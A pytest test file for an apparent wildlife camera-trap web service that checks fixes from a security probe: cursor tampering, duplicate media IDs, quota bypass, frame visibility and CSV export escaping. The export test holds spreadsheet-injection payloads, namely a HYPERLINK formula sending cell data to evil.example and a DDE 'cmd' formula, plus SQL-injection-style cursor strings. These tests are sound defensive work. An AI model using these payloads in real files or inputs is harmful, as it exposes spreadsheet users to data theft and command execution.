"""Issue 23: what the second outside probe found in camera-trap projects (tampered cursors, repeated
mediaIDs, long idempotency keys, formulas in the export, public frames, self-made quotas, sequences)."""

import base64
import csv
from datetime import UTC, datetime, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from kombu.transport.memory import Channel
from rest_framework.test import APIClient

from cameratraps.camtrap_dp_export import export_camtrap_dp
from cameratraps.models import Media, Project
from cameratraps.selectors import media_frame, project_sequences, sequences_with_frames
from cameratraps.sequences import group_sequences
from cameratraps.services import (
    deployment_for_upload,
    media_upload,
    project_create,
    project_frames_public_set,
    project_member_add,
    project_quota_approve,
    project_sequences_rebuild,
)
from core.errors import ServiceError
from observations.classification import observation_record_result
from observations.models import Observation
from observations.tasks import BATCH_QUEUE
from tests.cameratraps.conftest import send
from tests.factories import UserFactory, jpeg_bytes
from tests.world import api_for

pytestmark = pytest.mark.django_db


def _cursor(query: str) -> str:
    return base64.b64encode(query.encode()).decode()


@pytest.mark.parametrize("cursor", ["abc", _cursor("p=abc"), _cursor("p=1e999"), _cursor("p='"), _cursor("p=1'--")])
def test_low_tampered_cursor_is_400_not_500(project, users, cursor):
    alice = api_for(users["alice"])
    assert send(alice, deployment="cam1", latitude=1, longitude=1).status_code == 202
    response = alice.get("/api/v1/projects/wetlands/observations/", {"cursor": cursor})
    assert response.status_code == 400 and response.data["error"]["code"] == "invalid_cursor"


def test_low_repeated_media_id_is_409_not_500(project, users):
    alice = api_for(users["alice"])
    assert send(alice, deployment="cam1", latitude=1, longitude=1, media_id="m1").status_code == 202
    again = send(alice, deployment="cam1", media_id="m1")
    assert again.status_code == 409 and again.data["error"]["code"] == "media_id_taken"
    assert Media.objects.count() == 1 and Observation.objects.count() == 1  # the refused frame left nothing


def test_low_project_upload_idempotency_key_over_200_characters_is_refused_not_cut(project, users):
    alice = api_for(users["alice"])
    response = send(alice, deployment="cam1", latitude=1, longitude=1, headers={"Idempotency-Key": "k" * 201})
    assert response.status_code == 400 and Media.objects.count() == 0
    assert (
        send(alice, deployment="cam1", latitude=1, longitude=1, headers={"Idempotency-Key": "k" * 200}).status_code
        == 202
    )


def test_low_camtrap_dp_export_neutralises_formulas(project, users, tmp_path):
    alice = api_for(users["alice"])
    deployment = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    made = alice.post(
        "/api/v1/projects/wetlands/deployments/",
        {"deployment_id": deployment, "latitude": 1, "longitude": 1, "camera_model": "@SUM(1+1)*cmd|' /C calc'!A0"},
        format="json",
    )
    assert made.status_code == 201
    assert send(alice, deployment=deployment, media_id="+1+1", observed_at="2024-05-01T10:00:00Z").status_code == 202
    assert send(alice, deployment=deployment, media_id="-2+3", observed_at="2024-05-01T10:00:01Z").status_code == 202
    export_camtrap_dp(project=project, out_dir=tmp_path, exact=True)
    cells = []
    for table in ("deployments", "media", "observations"):
        with (tmp_path / f"{table}.csv").open(newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            float(cell)  # only a number may start so
    assert f"'{deployment}" in cells and "'+1+1" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def _finished_frame(client, model_version, **fields) -> Observation:
    assert send(client, deployment="cam1", latitude=1, longitude=1, **fields).status_code == 202
    observation = Media.objects.order_by("-id").first().observation
    observation_record_result(
        observation=observation,
        model_version=model_version,
        taxon_scores={"Testus nativus": 0.9},
        top_k=[("Testus nativus", 0.9)],
    )
    return observation


def _phone_upload(client, model_version) -> Observation:
    photo = SimpleUploadedFile("p.jpg", jpeg_bytes(), content_type="image/jpeg")
    created = client.post("/api/v1/observations/", {"photo": photo, "latitude": 1, "longitude": 1}, format="multipart")
    observation = Observation.objects.get(uuid=created.data["id"])
    observation_record_result(
        observation=observation,
        model_version=model_version,
        taxon_scores={"Testus nativus": 0.9},
        top_k=[("Testus nativus", 0.9)],
    )
    return observation


def test_medium_project_frames_stay_out_of_the_anonymous_feed_unless_the_project_opts_in(
    project, users, model_version, taxa
):
    alice = api_for(users["alice"])
    frame = _finished_frame(alice, model_version)
    phone = _phone_upload(alice, model_version)
    anonymous = APIClient()

    def feed() -> set[str]:
        return {row["id"] for row in anonymous.get("/api/v1/feed/?limit=200").data["results"]}

    assert feed() == {str(phone.uuid)}
    assert anonymous.get(f"/api/v1/feed/{frame.uuid}/").status_code == 404
    project_frames_public_set(project=project, frames_public=True)  # the project opts in
    assert feed() == {str(phone.uuid), str(frame.uuid)}
    project_frames_public_set(project=project, frames_public=False)
    assert feed() == {str(phone.uuid)}


def test_medium_project_photos_and_identifications_check_membership(project, users, model_version, taxa):
    alice = api_for(users["alice"])
    frame = _finished_frame(alice, model_version)
    outsider = api_for(UserFactory(username="mallory"))
    photo, identifications = (
        f"/api/v1/observations/{frame.uuid}/photo/",
        f"/api/v1/observations/{frame.uuid}/identifications/",
    )
    assert outsider.get(identifications).status_code == 404
    assert outsider.get(photo).data["error"]["detail"] == "no such observation"
    posted = outsider.post(
        f"/api/v1/observations/{frame.uuid}/identifications/", {"taxon": "Testus nativus"}, format="json"
    )
    assert posted.status_code == 404
    bob = api_for(users["bob"])  # a member who did not upload it
    assert bob.get(identifications).status_code == 200
    # The member gets what the uploader gets (here: no served copy was built, as no worker ran).
    assert bob.get(photo).data == alice.get(photo).data and "no such observation" not in str(bob.get(photo).data)


def test_medium_quota_bypass_quota_above_the_default_needs_staff_approval(users):
    alice = api_for(users["alice"])
    names = []
    for n in range(3):
        made = alice.post("/api/v1/projects/", {"name": f"flood{n}", "upload_quota_per_hour": 1_000_000}, format="json")
        assert made.status_code == 201
        assert made.data["upload_quota_per_hour"] == 20_000 and made.data["upload_quota_requested"] == 1_000_000
        names.append(made.data["name"])
    project = Project.objects.get(name=names[0])
    with pytest.raises(ServiceError):
        project_quota_approve(project=project, approver=users["alice"])
    staff = UserFactory(username="staff", is_staff=True)
    project_quota_approve(project=project, approver=staff)
    project.refresh_from_db()
    assert (project.upload_quota_per_hour, project.upload_quota_requested) == (1_000_000, None)


def test_medium_quota_bypass_one_persons_uploads_are_bounded_across_their_projects(users, settings):
    settings.RANGEWATCH_PROJECT_UPLOADS_PER_USER_RATE = "3/hour"
    alice, bob = api_for(users["alice"]), api_for(users["bob"])
    for name in ("one", "two"):
        project = project_create(name=name, owner=users["alice"], upload_quota_per_hour=100)
        project_member_add(project=project, user=users["bob"])
    codes = [send(alice, project=p, deployment="c", latitude=1, longitude=1).status_code for p in ("one", "two", "one")]
    assert codes == [202, 202, 202]
    refused = send(alice, project="two", deployment="c")
    assert refused.status_code == 429 and refused["Retry-After"]
    assert send(bob, project="two", deployment="c").status_code == 202  # another member keeps their own share


def test_medium_quota_bypass_fair_scheduling_between_projects(
    users, model_version, taxa, settings, django_capture_on_commit_callbacks
):
    settings.RANGEWATCH_PROJECT_FRAMES_IN_BROKER = 2
    flood = project_create(name="flood", owner=users["alice"])
    team = project_create(name="team", owner=users["bob"])
    alice, bob = api_for(users["alice"]), api_for(users["bob"])
    with django_capture_on_commit_callbacks(execute=True):
        for _ in range(6):
            assert send(alice, project="flood", deployment="c", latitude=1, longitude=1).status_code == 202
        for _ in range(2):
            assert send(bob, project="team", deployment="c", latitude=1, longitude=1).status_code == 202

    def held(project) -> int:
        return Observation.objects.filter(camera_trap_media__project=project, held=True).count()

    # The other team's frames are in the broker right behind two of the flood's, not behind all six.
    assert Channel.queues[BATCH_QUEUE].qsize() == 4 and (held(flood), held(team)) == (4, 0)
    first = Observation.objects.filter(camera_trap_media__project=flood, held=False).order_by("id").first()
    with django_capture_on_commit_callbacks(execute=True):
        observation_record_result(
            observation=first,
            model_version=model_version,
            taxon_scores={"Testus nativus": 0.9},
            top_k=[("Testus nativus", 0.9)],
        )
    assert Channel.queues[BATCH_QUEUE].qsize() == 5 and held(flood) == 3  # a finished frame frees its place
    # The sweeper never publishes a held frame: it is waiting for its turn, not lost.
    from observations.classification import stuck_observations_sweep

    again, _ = stuck_observations_sweep(broker_backlog=0, queued_after_s=0)
    assert not {pk for pk, _ in again} & set(Observation.objects.filter(held=True).values_list("pk", flat=True))


def _frame_at(project, user, deployment, seconds, media_id):
    """A frame through the project upload service, taken `seconds` after 10:00."""
    photo = SimpleUploadedFile("f.jpg", jpeg_bytes(), content_type="image/jpeg")
    media_upload(
        project=project,
        uploader=user,
        photo=photo,
        deployment=deployment_for_upload(project=project, deployment_id=deployment, latitude=1, longitude=1),
        observed_at=datetime(2024, 5, 1, 10, tzinfo=UTC) + timedelta(seconds=seconds),
        media_id=media_id,
    )


def _stored_sequences(project) -> list[tuple[str, list[str]]]:
    page = sequences_with_frames(project=project, rows=project_sequences(project=project))
    return [(s.sequence_id, [f.media_id for f in s.frames]) for s in page]


def test_medium_sequences_are_built_as_frames_arrive(project, users):
    alice = users["alice"]
    # Out of order: 50 s arrives last and bridges 0 s and 100 s (interval 60 s) into one burst.
    for deployment, seconds, media_id in [
        ("cam1", 0, "a"),
        ("cam1", 100, "c"),
        ("cam1", 400, "d"),
        ("cam2", 10, "e"),
        ("cam1", 50, "b"),
    ]:
        _frame_at(project, alice, deployment, seconds, media_id)
    expected = group_sequences(
        [media_frame(m) for m in Media.objects.select_related("deployment", "observation")],
        project.sequence_interval_s,
    )
    assert _stored_sequences(project) == [(s.sequence_id, [f.media_id for f in s.frames]) for s in expected]
    assert _stored_sequences(project) == [("cam1-1", ["a", "b", "c"]), ("cam1-2", ["d"]), ("cam2-1", ["e"])]
    project.sequence_interval_s = 1000
    project.save()
    project_sequences_rebuild(project=project)  # the admin does this when the interval changes
    assert _stored_sequences(project) == [("cam1-1", ["a", "b", "c", "d"]), ("cam2-1", ["e"])]


def test_medium_sequences_page_reads_only_its_frames(project, users, monkeypatch):
    for n in range(24):  # 8 bursts of 3 frames, 10 minutes apart
        _frame_at(project, users["alice"], "cam1", (n // 3) * 600 + n % 3, f"m{n:02d}")
    import cameratraps.selectors

    built = []
    real = cameratraps.selectors.media_frame
    monkeypatch.setattr(cameratraps.selectors, "media_frame", lambda m: built.append(m.media_id) or real(m))
    page = api_for(users["alice"]).get("/api/v1/projects/wetlands/sequences/?limit=1&offset=5").data
    assert page["count"] == 8
    assert [(s["sequence_id"], s["media_ids"]) for s in page["results"]] == [("cam1-6", ["m15", "m16", "m17"])]
    assert sorted(built) == ["m15", "m16", "m17"]  # not every frame of the project (24 before)
